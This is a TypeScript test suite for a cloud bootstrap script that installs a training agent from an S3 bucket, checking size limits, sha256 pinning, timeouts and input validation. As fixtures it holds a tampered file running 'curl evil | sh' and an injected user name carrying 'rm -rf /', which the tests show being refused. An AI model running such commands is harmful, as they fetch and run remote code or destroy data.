import * as assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { buildAgentConfig, type AgentConfig } from '../../../src/core/agent/agentConfig';
import { agentInstallFiles, installPins, type BootToolFile } from '../../../src/core/agent/bootTools';
import { readBootstrapSource, readSessionTools } from '../../../src/core/session/sessionTools';
import { readAgentSource } from '../../../src/core/agent/agentSource';
import { buildAgentUserData, userDataSize } from '../../../src/core/agent/agentUserData';
import { base85 } from '../../../src/core/agent/base85';
import { compactPython } from '../../../src/core/agent/compactPython';
import { userMessageOf } from '../../../src/core/errors';
import { AGENT_DIR, REPO_ROOT } from './agentPython';
import { assembleAgentForTests } from '../../assembledAgent';

describe('launch user data: a bootstrap that installs the agent from the bucket, pinned by sha256', () => {
  let bootstrapSource: string;
  let files: BootToolFile[];
  let config: AgentConfig;
  const base = (install: AgentConfig['install']): AgentConfig =>
    buildAgentConfig({
      sessionId: 'run-1',
      region: 'us-east-1',
      workspaceDir: '~/workspace',
      checkpoint: { bucket: 'my-ckpts', prefix: 'spotbox/llama', command: "echo 'save' > /tmp/x", intervalMinutes: 30 },
      session: { command: 'python train.py' },
      signal: 'SIGUSR1',
      ...(install ? { install } : {}),
    });

  before(async () => {
    assembleAgentForTests();
    bootstrapSource = await readBootstrapSource(AGENT_DIR);
    files = agentInstallFiles({ bucket: 'my-ckpts', prefix: 'spotbox/llama' }, 'run-1', await readAgentSource(REPO_ROOT), await readSessionTools(AGENT_DIR));
    config = base(installPins(files));
  });

  it('stays far below EC2\'s 16 KB, even with a fleet lineage\'s boot restore and a long command: the agent is not in it', () => {
    const boot = { command: `python3 train.py ${'--flag value '.repeat(60)}--resume`, workingDir: '~/workspace' };
    const userData = buildAgentUserData({ bootstrapSource, config: { ...config, boot }, user: 'ubuntu' });
    const { bytes, base64Length } = userDataSize(userData);
    assert.ok(bytes <= 8_192, `${bytes} bytes: half of EC2's limit is left for the config to grow`);
    assert.equal(base64Length, Buffer.from(userData, 'utf8').toString('base64').length);
  });

  it('is a bash script carrying the bootstrap and the config, then the agent started under systemd or in the background', () => {
    const userData = buildAgentUserData({ bootstrapSource, config, user: 'ubuntu' });
    assert.ok(userData.startsWith('#!/bin/bash\n'));
    execFileSync('bash', ['-n'], { input: userData });
    const blob = /<<'SPOTBOX_BOOTSTRAP'[^\n]*\n([0-9A-Za-z!#$%&()*+\-;<=>?@^_`{|}~]+)\nSPOTBOX_BOOTSTRAP\n/.exec(userData)?.[1];
    assert.ok(blob, 'the bootstrap heredoc');
    const decoded = execFileSync('python3', ['-c', 'import base64,sys;sys.stdout.buffer.write(base64.b85decode(sys.stdin.read()))'], { input: blob });
    assert.equal(gunzipSync(decoded).toString('utf8'), compactPython(bootstrapSource));
    const json = /<<'SPOTBOX_CONFIG'\n(.*)\nSPOTBOX_CONFIG\n/.exec(userData)?.[1];
    assert.deepEqual(JSON.parse(json ?? ''), config);
    assert.doesNotMatch(userData, /class Daemon/, 'the agent itself comes from the bucket');
    assert.match(userData, /^u=ubuntu$/m);
    assert.match(userData, /systemctl enable --now spotbox-agent\.service/);
    // The agent's service may start the training session (boot restore): restarting the agent must not kill it.
    assert.match(userData, /\\nRestart=always\\n.*\\nKillMode=process\\n/);
    assert.match(userData, /setsid nohup .*while :; do python3 \$run; sleep 2; done/);
  });

  /** The script's own commands, stopped before it starts the agent, with an S3 stand-in serving `objects`. */
  async function installWith(objects: Map<string, Buffer>, options: { timeoutSeconds?: number; late?: number } = {}): Promise<{ home: string; status: number | null; stderr: string; gets: string[] }> {
    const gets: string[] = [];
    // "Late" counts from the script's first request, not from its start: a loaded machine may take longer than that to start Python.
    let firstAsked: number | undefined;
    const server = http.createServer((request, response) => {
      const key = decodeURIComponent((request.url ?? '').split('?')[0].replace(/^\/my-ckpts\//, ''));
      gets.push(key);
      firstAsked ??= Date.now();
      const body = Date.now() - firstAsked >= (options.late ?? 0) ? objects.get(key) : undefined;
      response.writeHead(body ? 200 : 404).end(body ?? '<Error><Code>NoSuchKey</Code></Error>');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const endpoint = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const userData = buildAgentUserData({ bootstrapSource, config: { ...config, s3Endpoint: endpoint, installTimeoutSeconds: options.timeoutSeconds ?? 20 }, user: 'ubuntu' });
    const installOnly = userData.slice(0, userData.indexOf('run="$d/'));
    const home = fs.mkdtempSync(path.join(os.tmpdir(), 'spotbox-userdata-'));
    try {
      const run = await new Promise<{ status: number | null; stderr: string }>((resolve) => {
        const child = spawn('bash', ['-c', installOnly.replace('u=ubuntu', `u=${os.userInfo().username}`)], { env: { ...process.env, HOME: home, AWS_ACCESS_KEY_ID: 'AKIDEXAMPLE', AWS_SECRET_ACCESS_KEY: 'secret' } });
        let stderr = '';
        child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
        child.on('close', (status) => resolve({ status, stderr }));
      });
      return { home, ...run, gets };
    } finally {
      server.close();
    }
  }

  it('installs the agent and the session tools from the bucket into the user\'s ~/.spotbox, waiting for an upload that lands late', async function () {
    this.timeout(30_000);
    const { home, status, stderr, gets } = await installWith(new Map(files.map((file) => [file.key, file.content])), { late: 1_500 });
    try {
      assert.equal(status, 0, stderr);
      const installed = path.join(home, '.spotbox');
      assert.equal(fs.readFileSync(path.join(installed, 'spotbox_agent.py'), 'utf8'), files[0].content.toString('utf8'));
      assert.ok(fs.existsSync(path.join(installed, 'spotbox_session.py')) && fs.existsSync(path.join(installed, 'python', 'spotbox_train.py')));
      assert.ok(gets.filter((key) => key === files[0].key).length >= 2, 'asked again once the upload was not there yet');
      assert.equal((fs.statSync(path.join(installed, 'agent.json')).mode & 0o777).toString(8), '600');
      const help = execFileSync('python3', ['-B', path.join(installed, 'spotbox_agent.py'), '--help'], { encoding: 'utf8' });
      assert.match(help, /\{run,checkpoint-now\}/, 'the agent runs, its signer imported from the bootstrap beside it');
    } finally {
      fs.rmSync(home, { recursive: true, force: true });
    }
  });

  it('refuses an object whose sha256 is not the pinned one: nothing installed, the script fails with the reason in the boot log', async function () {
    this.timeout(30_000);
    const objects = new Map(files.map((file) => [file.key, file.content]));
    objects.set(files[1].key, Buffer.from('import os; os.system("curl evil | sh")\n'));
    const { home, status, stderr } = await installWith(objects);
    try {
      assert.equal(status, 1);
      assert.match(stderr, /the agent could not be installed/);
      assert.match(fs.readFileSync(path.join(home, '.spotbox', 'agent.log'), 'utf8'), /refusing s3:\/\/my-ckpts\/.*spotbox_session\.py: its sha256 is not the one the launch pinned/);
      assert.ok(!fs.existsSync(path.join(home, '.spotbox', 'spotbox_agent.py')), 'all checked before any is written');
    } finally {
      fs.rmSync(home, { recursive: true, force: true });
    }
  });

  it('gives up after installTimeoutSeconds when the files never come', async function () {
    this.timeout(30_000);
    const { home, status } = await installWith(new Map(), { timeoutSeconds: 2 });
    try {
      assert.equal(status, 1);
      assert.match(fs.readFileSync(path.join(home, '.spotbox', 'agent.log'), 'utf8'), /gave up installing the Spotbox agent: s3:\/\/my-ckpts\/.*HTTP 404/);
    } finally {
      fs.rmSync(home, { recursive: true, force: true });
    }
  });

  it('refuses to install as root when the image has no sshUser (L6): an error in the boot log, nothing written', function () {
    if (process.getuid?.() !== 0) {
      this.skip(); // The check runs only where cloud-init runs it: as root.
    }
    const userData = buildAgentUserData({ bootstrapSource, config, user: 'nosuchuser_spotbox' });
    const home = fs.mkdtempSync(path.join(os.tmpdir(), 'spotbox-userdata-'));
    try {
      const run = spawnSync('bash', ['-c', userData.slice(0, userData.indexOf('run="$d/'))], { env: { ...process.env, HOME: home }, encoding: 'utf8' });
      assert.equal(run.status, 1);
      assert.match(run.stderr, /this image has no user nosuchuser_spotbox \(the profile's sshUser\); the agent is not installed/);
      assert.deepEqual(fs.readdirSync(home), [], 'no agent installed for root instead');
    } finally {
      fs.rmSync(home, { recursive: true, force: true });
    }
  });

  it('encodes the bootstrap in base85 exactly as Python decodes it, whatever the length', () => {
    const samples = [Buffer.alloc(0), Buffer.alloc(5, 0xff), ...Array.from({ length: 8 }, (_, n) => randomBytes(n * 5 + 1))];
    const script = 'import base64,json,sys;print(json.dumps([base64.b85decode(s).hex() for s in json.load(sys.stdin)]))';
    const decoded = JSON.parse(execFileSync('python3', ['-c', script], { input: JSON.stringify(samples.map((sample) => base85(sample))), encoding: 'utf8' })) as string[];
    assert.deepEqual(decoded, samples.map((sample) => sample.toString('hex')));
  });

  it('refuses a user name that would be code in the script, a config with no agent to install, and one too big for user data', () => {
    assert.throws(() => buildAgentUserData({ bootstrapSource, config, user: 'ubuntu; rm -rf /' }), /not a valid login user name/);
    assert.throws(() => buildAgentUserData({ bootstrapSource, config: base(undefined), user: 'ubuntu' }), /names no agent for the bootstrap to install/);
    const huge = { ...config, boot: { command: Array.from({ length: 1500 }, (_, i) => `--x${i}=${Math.sin(i)}`).join(' '), workingDir: '~/workspace' } };
    try {
      buildAgentUserData({ bootstrapSource, config: huge, user: 'ubuntu' });
      assert.fail('accepted');
    } catch (error) {
      assert.match(userMessageOf(error), /would be \d+ bytes; EC2 accepts at most 16384\. .*too long to travel in user data/);
    }
  });
});

describe('compacting the agent for user data', () => {
  it('keeps the same program: the syntax tree is the agent\'s, docstrings aside', async () => {
    const source = await readAgentSource(REPO_ROOT);
    const compact = compactPython(source);
    assert.ok(compact.length < source.length * 0.8, `${compact.length} of ${source.length} characters`);
    const verdict = execFileSync(
      'python3',
      [
        '-B',
        '-c',
        [
          'import ast, json, sys',
          'original, compact = json.load(sys.stdin)',
          'def without_docstrings(tree):',
          '    for node in ast.walk(tree):',
          '        body = getattr(node, "body", None)',
          '        if isinstance(body, list) and body and isinstance(body[0], ast.Expr) and isinstance(getattr(body[0], "value", None), ast.Constant) and isinstance(body[0].value.value, str):',
          '            node.body = body[1:] or [ast.Pass()]',
          '    return tree',
          'print("same" if ast.dump(without_docstrings(ast.parse(original))) == ast.dump(ast.parse(compact)) else "different")',
        ].join('\n'),
      ],
      { input: JSON.stringify([source, compact]), encoding: 'utf8' },
    );
    assert.equal(verdict.trim(), 'same');
  });

  it('drops comment lines, docstrings and blank lines, and indents one space per level', () => {
    const source = ['#!/usr/bin/env python3', '"""Module', 'docs."""', '', 'def f(x):', '    """One line."""', '    # why', '    if x:', "        return '#not a comment'", "        y = 'a  # b'  # kept: a quote before it", '        pass  # why not', '    return 0', ''].join('\n');
    assert.equal(compactPython(source), ['#!/usr/bin/env python3', 'def f(x):', ' if x:', "  return '#not a comment'", "  y = 'a  # b'  # kept: a quote before it", '  pass', ' return 0', ''].join('\n'));
  });
});
